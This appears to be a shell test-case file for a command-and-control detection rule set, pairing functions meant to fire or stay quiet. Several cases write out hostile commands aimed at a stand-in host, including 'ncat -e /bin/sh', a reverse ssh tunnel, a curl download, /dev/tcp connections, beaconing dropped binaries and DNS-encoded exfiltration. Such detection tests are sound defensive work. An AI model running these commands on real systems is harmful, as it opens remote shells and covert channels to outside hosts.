# Cases of command_and_control.yaml.

fires_downloader_spawned_by_server_process() { server "curl -s http://$outside/agent"; }
quiet_downloader_spawned_by_server_process() { curl -s "http://$outside/index.html"; }

fires_outbound_connection_by_shell() { bash -c ": </dev/tcp/$outside/443"; }
quiet_outbound_connection_by_shell() { bash -c ': </dev/tcp/10.0.0.9/443'; }

fires_outbound_connection_by_dropped_program_or_inline_script() {
	cp /srv/bin/act /dev/shm/agent
	/dev/shm/agent connect "$outside:443" 6
}
quiet_outbound_connection_by_dropped_program_or_inline_script() {
	cp /srv/bin/act /dev/shm/agent
	/dev/shm/agent connect 10.0.0.9:443 6
	act connect "$outside:443" 6
}

fires_beacon_of_dropped_program_or_inline_script() {
	cp /srv/bin/act /tmp/beacon
	for _ in 1 2 3 4 5 6 7 8; do /tmp/beacon connect "$outside:443" 6; done
}
quiet_beacon_of_dropped_program_or_inline_script() {
	cp /srv/bin/act /tmp/beacon
	for _ in 1 2 3 4 5 6 7 8; do /tmp/beacon connect 10.0.0.9:443 6; done
}

fires_tunnel_opened() {
	idle ssh
	ssh -N -R 8080:127.0.0.1:80 "$outside"
}
quiet_tunnel_opened() {
	idle ssh
	ssh -N "$outside"
}

fires_relay_runs_program() {
	idle ncat
	ncat -e /bin/sh "$outside" 443
}
quiet_relay_runs_program() {
	idle ncat
	ncat -z 10.0.0.9 443
}

fires_listener_opened_by_shell_tool_or_dropped_program() {
	cp /srv/bin/act /tmp/agent
	/tmp/agent listen 0.0.0.0:31337
}
quiet_listener_opened_by_shell_tool_or_dropped_program() {
	act listen 0.0.0.0:8081
	cp /srv/bin/act /tmp/agent
	/tmp/agent listen 127.0.0.1:31337
}

fires_onion_router_called() { act connect "$outside:9001" 6; }
quiet_onion_router_called() { act connect 10.0.0.9:9001 6; }

fires_much_sent_to_name_server() { act datagrams "$outside:53" 60000; }
quiet_much_sent_to_name_server() { act datagrams "$outside:53" 400; }

fires_raw_socket_opened() { act socket raw; }
quiet_raw_socket_opened() {
	act socket datagram
	named ping /srv/bin/act
	ping socket raw
}

fires_data_hidden_in_names_asked() { act ask "$outside:53" .mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiydcmrtgq2ug.example.com 60; }
quiet_data_hidden_in_names_asked() {
	act ask "$outside:53" .example.com 60
	act ask "$outside:53" .mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiydcmrtgq2ug.example.com 9
}
